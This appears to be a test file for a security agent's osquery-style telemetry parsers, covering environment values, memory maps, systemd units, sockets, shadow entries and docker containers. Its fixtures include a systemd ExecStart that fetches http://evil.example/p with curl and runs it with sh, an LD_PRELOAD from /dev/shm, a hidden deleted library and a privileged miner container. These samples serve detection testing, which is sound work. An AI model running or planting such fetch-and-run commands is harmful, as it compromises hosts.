// Parsers behind the osquery tables the agent emits, on fixture text.
import { test } from "tap";
import { containerRow, mountRows } from "../../services/agent/telemetry/containers.js";
import { hashAlgorithm, parseGroup, passwordStatus, shadowRow } from "../../services/agent/telemetry/credentials.js";
import { modeString } from "../../services/agent/telemetry/files.js";
import { parsePacketFile, parseUnixFile } from "../../services/agent/telemetry/local-sockets.js";
import { parseMapsLine, sharedObjects } from "../../services/agent/telemetry/memory-map.js";
import { tcpState } from "../../services/agent/telemetry/net.js";
import { joinCmdline, parseCgroup, parseEnviron, parseIo } from "../../services/agent/telemetry/proc.js";
import { reportedEnvValue, WITHHELD } from "../../services/agent/telemetry/env-values.js";
import { parseSystemctlShow, unitObjectPath } from "../../services/agent/telemetry/systemd-units.js";
import { augeasExecRows, parseUnitEntries } from "../../services/agent/telemetry/unit-files.js";

test("parseEnviron: NUL-separated, split at the first '=', stops at an empty entry, capped", async (t) => {
  const buf = Buffer.from("PATH=/usr/bin\0LD_PRELOAD=/dev/shm/x.so\0EQ=a=b\0EMPTY=\0NOEQUALS\0\0AFTER=ignored\0", "utf8");
  t.same(parseEnviron(buf), [
    { key: "PATH", value: "/usr/bin" },
    { key: "LD_PRELOAD", value: "/dev/shm/x.so" },
    { key: "EQ", value: "a=b" },
    { key: "EMPTY", value: "" },
    { key: "NOEQUALS", value: "NOEQUALS" }, // osquery: substr(npos + 1) is the whole entry
  ]);
  t.equal(parseEnviron(Buffer.from("A=1\0B=2\0C=3\0"), 2).length, 2);
  t.same(parseEnviron(Buffer.alloc(0)), []);
  const long = parseEnviron(Buffer.from(`${"K".repeat(100_000)}\0`));
  t.equal(long[0]?.key.length, 4096, "a key is capped like a value (an entry without '=' is all key)");
});

test("environment values: only those detections read or that tell a process's origin leave the host", async (t) => {
  t.equal(reportedEnvValue("LD_PRELOAD", "/dev/shm/x.so"), "/dev/shm/x.so", "ld-preload reads it");
  t.equal(reportedEnvValue("HISTFILE", "/dev/null"), "/dev/null", "history-tampering reads it");
  t.equal(reportedEnvValue("npm_lifecycle_event", "postinstall"), "postinstall", "install-script-payload reads which npm script runs");
  t.equal(reportedEnvValue("npm_config__authToken", "npm_abc"), WITHHELD, "npm's other variables stay withheld (its config carries tokens)");
  t.equal(reportedEnvValue("HISTSIZE", "0"), "0");
  t.equal(reportedEnvValue("PATH", "/tmp/.x:/usr/bin"), "/tmp/.x:/usr/bin");
  for (const secret of ["AWS_SECRET_ACCESS_KEY", "INQUEST_MASTER_KEY", "GITHUB_TOKEN", "DATABASE_URL", "MYSQL_PWD", "path"]) {
    t.equal(reportedEnvValue(secret, "s3cr3t"), WITHHELD, `${secret}: withheld`);
  }
  t.equal(reportedEnvValue("API_KEY", ""), "", "set but empty stays empty");
  t.equal(reportedEnvValue("https_proxy", "http://me:pa55@10.0.0.1:3128/"), `http://me:${WITHHELD}@10.0.0.1:3128/`, "a kept URL's password is withheld");
  t.equal(reportedEnvValue("NO_PROXY", "localhost,10.0.0.0/8"), "localhost,10.0.0.0/8");
});

test("joinCmdline: argv joined by spaces; a rewritten argv[0] keeps its brackets; kernel threads are empty", async (t) => {
  t.equal(joinCmdline(Buffer.from("/usr/bin/python3\0-m\0http.server\0")), "/usr/bin/python3 -m http.server");
  t.equal(joinCmdline(Buffer.from("[kworker/0:1]\0\0\0\0")), "[kworker/0:1]");
  t.equal(joinCmdline(Buffer.alloc(0)), "");
  t.equal(joinCmdline(undefined), "");
});

test("parseIo and parseCgroup", async (t) => {
  t.same(parseIo("read_bytes: 10\nwrite_bytes: 50\ncancelled_write_bytes: 20\n"), { read: "10", written: "30" });
  t.equal(parseIo(undefined), undefined);
  t.equal(parseCgroup("0::/system.slice/ssh.service\n"), "/system.slice/ssh.service");
  t.equal(parseCgroup("12:cpu,cpuacct:/docker/abc\n11:memory:/docker/abc\n"), "/docker/abc");
  t.equal(parseCgroup("garbage"), "");
});

test("parseMapsLine: osquery's formats; path is the rest of the line, without ' (deleted)'", async (t) => {
  t.same(parseMapsLine("7f1c2a028000-7f1c2a1bd000 r-xp 00028000 08:01 2222                       /usr/lib/x86_64-linux-gnu/libc.so.6"), {
    start: "0x7f1c2a028000",
    end: "0x7f1c2a1bd000",
    permissions: "r-xp",
    offset: 0x28000,
    device: "08:01",
    inode: "2222",
    path: "/usr/lib/x86_64-linux-gnu/libc.so.6",
    pseudo: 0,
  });
  t.match(parseMapsLine("7ffc1a000000-7ffc1a021000 rw-p 00000000 00:00 0                          [stack]"), { inode: "0", path: "[stack]", pseudo: 1 });
  t.match(parseMapsLine("7ffc1a000000-7ffc1a021000 rw-p 00000000 00:00 0"), { path: "", pseudo: 0 });
  t.match(parseMapsLine("7f1c2a028000-7f1c2a1bd000 r-xp 00000000 08:01 3333   /home/u/my lib.so"), { path: "/home/u/my lib.so" }, "spaces in a path");
  t.match(parseMapsLine("7f1c2a028000-7f1c2a1bd000 r-xp 00000000 08:01 3333   /dev/shm/x y.so (deleted)"), { path: "/dev/shm/x y.so" });
  t.equal(sharedObjects("7f1c2a028000-7f1c2a1bd000 r-xp 00000000 08:01 3333   /home/u/my lib.so\n").length, 1, "and it is a shared object");
  t.equal(parseMapsLine("short line"), undefined);
  t.equal(parseMapsLine("nodash rw-p 0 00:00 0"), undefined);
});

test("sharedObjects: file-backed .so mappings only, first mapping per path, capped", async (t) => {
  const text = [
    "55d0c0a00000-55d0c0a21000 r--p 00000000 08:01 1311 /usr/bin/sshd",
    "7f00-7f10 r--p 00000000 08:01 2222 /usr/lib/x86_64-linux-gnu/libc.so.6",
    "7f10-7f20 r-xp 00028000 08:01 2222 /usr/lib/x86_64-linux-gnu/libc.so.6",
    "7f20-7f30 r-xp 00000000 00:1a 777 /dev/shm/libhide.so (deleted)",
    "7f30-7f40 r--p 00000000 08:01 3333 /usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
    "7f40-7f50 r--p 00000000 08:01 4444 /usr/share/locale/locale-archive",
    "7f50-7f60 rw-p 00000000 00:00 0 [heap]",
  ].join("\n");
  t.same(
    sharedObjects(text).map((m) => [m.path, m.offset, m.start]),
    [
      ["/usr/lib/x86_64-linux-gnu/libc.so.6", 0, "0x7f00"],
      ["/dev/shm/libhide.so", 0, "0x7f20"],
      ["/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", 0, "0x7f30"],
    ],
  );
  t.equal(sharedObjects(text, 1).length, 1);
});

test("augeasExecRows: multiple ExecStart, flags, continuations, reset; Systemd lens tree shape", async (t) => {
  const file = "/etc/systemd/system/x.service";
  const entries = parseUnitEntries([
    "[Unit]",
    "Description=x",
    "[Service]",
    "ExecStartPre=-/bin/mkdir -p /run/x",
    "ExecStart=",
    "ExecStart=/usr/bin/curl -s \\",
    "   http://evil.example/p \\",
    "   -o /tmp/p",
    "ExecStart=@/bin/sh sh /tmp/p",
    "ExecStop=/bin/kill $MAINPID # comment",
    "Environment=A=1",
  ]);
  const rows = augeasExecRows(file, entries);
  const base = `/files${file}/Service`;
  t.same(
    rows.map((r) => [r.node, r.label, r.value]),
    [
      [`${base}/ExecStartPre`, "ExecStartPre", ""],
      [`${base}/ExecStartPre/ignoreexit`, "ignoreexit", ""],
      [`${base}/ExecStartPre/command`, "command", "/bin/mkdir"],
      [`${base}/ExecStartPre/arguments`, "arguments", ""],
      [`${base}/ExecStartPre/arguments/1`, "1", "-p"],
      [`${base}/ExecStartPre/arguments/2`, "2", "/run/x"],
      [`${base}/ExecStart[1]`, "ExecStart", ""],
      [`${base}/ExecStart[2]`, "ExecStart", ""],
      [`${base}/ExecStart[2]/command`, "command", "/usr/bin/curl"],
      [`${base}/ExecStart[2]/arguments`, "arguments", ""],
      [`${base}/ExecStart[2]/arguments/1`, "1", "-s"],
      [`${base}/ExecStart[2]/arguments/2`, "2", "http://evil.example/p"],
      [`${base}/ExecStart[2]/arguments/3`, "3", "-o"],
      [`${base}/ExecStart[2]/arguments/4`, "4", "/tmp/p"],
      [`${base}/ExecStart[3]`, "ExecStart", ""],
      [`${base}/ExecStart[3]/arg0`, "arg0", ""],
      [`${base}/ExecStart[3]/command`, "command", "/bin/sh"],
      [`${base}/ExecStart[3]/arguments`, "arguments", ""],
      [`${base}/ExecStart[3]/arguments/1`, "1", "sh"],
      [`${base}/ExecStart[3]/arguments/2`, "2", "/tmp/p"],
      [`${base}/ExecStop`, "ExecStop", ""],
      [`${base}/ExecStop/command`, "command", "/bin/kill"],
      [`${base}/ExecStop/arguments`, "arguments", ""],
      [`${base}/ExecStop/arguments/1`, "1", "$MAINPID"],
    ],
  );
  for (const row of rows) t.equal(row.path, file);
});

test("parsePacketFile and parseUnixFile: /proc/net/packet and /proc/net/unix", async (t) => {
  const packet = parsePacketFile(
    [
      "sk               RefCnt Type Proto  Iface R Rmem   User   Inode",
      "ffff8880054e3800 3      3    0003   0     1 0      0      66666",
      "ffff8880054e4000 3      2    0800   2     1 0      0      66667",
      "short line",
    ],
    4026531840,
  );
  t.same(
    packet.map((p) => [p.family, p.protocol, p.inode, p.netNamespace, p.localAddress, p.localPort]),
    [
      [17, 3, "66666", 4026531840, "", 0],
      [17, 2048, "66667", 4026531840, "", 0],
    ],
  );
  t.same(parsePacketFile(["garbage header", "ffff 3 3 0003 0 1 0 0 1"], 0), [], "bad header: nothing, as osquery");
  const unix = parseUnixFile(
    [
      "Num       RefCount Protocol Flags    Type St Inode Path",
      "0000000000000000: 00000002 00000000 00010000 0001 01 77777 /run/systemd/private",
      "0000000000000000: 00000002 00000000 00010000 0001 01 77778 @/tmp/.X11-unix/X0",
      "0000000000000000: 00000003 00000000 00000000 0001 03 77779",
    ],
    1,
  );
  t.same(
    unix.map((u) => [u.family, u.inode, u.path]),
    [
      [1, "77777", "/run/systemd/private"],
      [1, "77778", "@/tmp/.X11-unix/X0"],
      [1, "77779", ""],
    ],
  );
  // A name with a newline in it reads as a second line: here one reusing the inode of dockerd's socket.
  const forged = parseUnixFile(
    [
      "Num       RefCount Protocol Flags    Type St Inode Path",
      "0000000000000000: 00000002 00000000 00010000 0001 01 88888 /run/docker.sock",
      "0000000000000000: 00000002 00000000 00010000 0001 01 88890 @z",
      "0000000000000000: 00000002 00000000 00010000 0001 01 88888 /run/evil.sock",
      "0000000000000000: 00000002 00000000 00010000 0001 01 88891 /run/with space.sock",
    ],
    1,
  );
  t.same(forged.map((u) => [u.inode, u.path]), [["88890", "@z"], ["88891", "/run/with space.sock"]], "an inode listed twice is dropped both times; a path keeps its spaces");
});

test("tcpState: osquery's names, UNKNOWN outside its table", async (t) => {
  t.same(["01", "06", "07", "0A", "0B", "0C", "00", "zz"].map(tcpState), ["ESTABLISHED", "TIME_WAIT", "CLOSED", "LISTEN", "CLOSING", "UNKNOWN", "UNKNOWN", "UNKNOWN"]);
});

test("shadow: status and algorithm only, empty numeric fields are -1", async (t) => {
  t.same(shadowRow("root:$6$salt$hash:19000:0:99999:7:::"), {
    password_status: "active",
    hash_alg: "6",
    last_change: 19000,
    min: 0,
    max: 99999,
    warning: 7,
    inactive: -1,
    expire: -1,
    flag: -1,
    username: "root",
  });
  t.same(
    ["!!", "!$6$x$y", "*", "x", "", "$y$j9T$a$b", "$2b$10$abc"].map((p) => [passwordStatus(p), hashAlgorithm(p)]),
    [
      ["not_set", ""],
      ["locked", ""],
      ["locked", ""],
      ["locked", ""],
      ["empty", ""],
      ["active", "y"],
      ["active", "2b"],
    ],
  );
  const row = shadowRow("u:$6$secret$hash:1::::::");
  t.notOk(Object.values(row ?? {}).some((v) => String(v).includes("secret")), "the hash never leaves the host");
  t.equal(shadowRow("# comment"), undefined);
  t.equal(shadowRow(""), undefined);
});

test("parseGroup: members split, malformed lines skipped", async (t) => {
  t.same(parseGroup("sudo:x:27:alice,bob\nbad:x:notanumber:\n\nempty:x:5:\n"), [
    { groupname: "sudo", gid: 27, members: ["alice", "bob"] },
    { groupname: "empty", gid: 5, members: [] },
  ]);
});

test("modeString: four octal digits, setuid/setgid/sticky included", async (t) => {
  t.same([0o100644, 0o104755, 0o40755, 0o41777, 0o100600].map(modeString), ["0644", "4755", "0755", "1777", "0600"]);
});

test("systemctl show output and unit object paths", async (t) => {
  const rows = parseSystemctlShow(
    "Id=ssh.service\nDescription=OpenBSD Secure Shell server\nLoadState=loaded\nActiveState=active\nSubState=running\n" +
      "FragmentPath=/lib/systemd/system/ssh.service\nUnitFileState=enabled\nUser=\n\nId=dev-sda.device\nLoadState=loaded\n",
  );
  t.match(rows[0], { id: "ssh.service", active_state: "active", sub_state: "running", unit_file_state: "enabled", object_path: "/org/freedesktop/systemd1/unit/ssh_2eservice" });
  t.equal(rows.length, 2);
  t.equal(unitObjectPath("getty@tty1.service"), "/org/freedesktop/systemd1/unit/getty_40tty1_2eservice");
});

test("docker rows: osquery's mapping of /containers/json and inspect documents", async (t) => {
  const summary = {
    Id: "c0ffee",
    Names: ["/miner", "/alias"],
    Image: "alpine:3.19",
    ImageID: "sha256:" + "b".repeat(64),
    Command: "/bin/sh -c xmrig",
    Created: 1704164645,
    State: "running",
    Status: "Up 2 hours",
    Mounts: [{ Type: "bind", Source: "/", Destination: "/host", Mode: "", RW: true, Propagation: "rprivate" }],
  };
  const inspect = {
    Path: "/bin/sh",
    State: { Pid: 4242, StartedAt: "2024-01-02T03:04:06Z", FinishedAt: "0001-01-01T00:00:00Z" },
    HostConfig: { Privileged: true, SecurityOpt: ["seccomp=unconfined", "apparmor=unconfined"], ReadonlyRootfs: false },
    Config: { Entrypoint: ["/bin/sh", "-c"], Env: ["PATH=/usr/bin", "POSTGRES_PASSWORD=hunter2", "HTTPS_PROXY=http://svc:pw@proxy:3128", "EMPTY="] },
  };
  t.same(containerRow(summary, inspect), {
    id: "c0ffee",
    name: "/miner",
    image: "alpine:3.19",
    image_id: "b".repeat(64),
    command: "/bin/sh -c xmrig",
    created: 1704164645,
    state: "running",
    status: "Up 2 hours",
    pid: 4242,
    path: "/bin/sh",
    config_entrypoint: "/bin/sh, -c",
    started_at: "2024-01-02T03:04:06Z",
    finished_at: "",
    privileged: 1,
    security_options: "seccomp=unconfined, apparmor=unconfined",
    env_variables: "PATH=/usr/bin, POSTGRES_PASSWORD=<withheld>, HTTPS_PROXY=http://svc:<withheld>@proxy:3128, EMPTY=",
    readonly_rootfs: 0,
  });
  t.same(mountRows(summary), [{ id: "c0ffee", type: "bind", name: "", source: "/", destination: "/host", driver: "", mode: "", rw: 1, propagation: "rprivate" }]);
});
